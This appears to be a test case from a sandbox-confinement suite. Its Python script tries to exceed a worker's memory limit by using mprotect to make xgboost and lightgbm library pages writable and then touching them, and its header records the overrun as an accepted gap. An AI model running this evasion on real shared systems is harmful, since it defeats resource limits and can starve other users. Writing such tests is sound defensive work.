# When its memory is used up, takes the pages of libraries that it does not need: their addresses are counted already.
# Borne: the limit is of addresses, so the most that a worker can have is this limit and the size of all libraries.
# expect: NOT_STOPPED
# unconfined: there is no limit

import ctypes
import mmap

import numpy as np

from attack import Attack, Denied, call, libc

ENOUGH = 10_000_000
SEGMENTS = []


class Header(ctypes.Structure):
    _fields_ = [("type", ctypes.c_uint32), ("flags", ctypes.c_uint32)] + [
        (name, ctypes.c_uint64) for name in ("offset", "address", "physical", "in_file", "in_memory", "align")
    ]


class Library(ctypes.Structure):
    _fields_ = [
        ("base", ctypes.c_uint64),
        ("name", ctypes.c_char_p),
        ("headers", ctypes.POINTER(Header)),
        ("count", ctypes.c_uint16),
    ]


@ctypes.CFUNCTYPE(ctypes.c_int, ctypes.POINTER(Library), ctypes.c_size_t, ctypes.c_void_p)
def note(library: object, size: int, data: object) -> int:
    found = library.contents
    if b"xgboost" in found.name or b"lightgbm" in found.name:
        for header in found.headers[: found.count]:
            if header.type == 1 and not header.flags & 2:  # loaded, and not writable
                SEGMENTS.append((found.base + header.address, header.in_memory))
    return 0


class Bot(Attack):
    def attack(self) -> str:
        libc.dl_iterate_phdr(note, None)
        kept: list[object] = []
        for size, count in ((10_000_000, 60), (1_000_000, 20), (100_000, 20)):
            try:
                for _ in range(count):
                    kept.append(np.ones(size // 8))
            except MemoryError:
                continue
        taken = 0
        for address, length in SEGMENTS:
            first = -(-address // mmap.PAGESIZE) * mmap.PAGESIZE
            length = length // mmap.PAGESIZE * mmap.PAGESIZE - mmap.PAGESIZE
            if length <= 0:
                continue
            call("mprotect", first, length, mmap.PROT_READ | mmap.PROT_WRITE)
            for page in range(first, first + length, mmap.PAGESIZE):
                ctypes.memset(page, 1, 1)
            taken += length
        kept.clear()
        if taken < ENOUGH:
            raise Denied(f"{taken} bytes")
        return f"{taken} bytes beyond the limit"
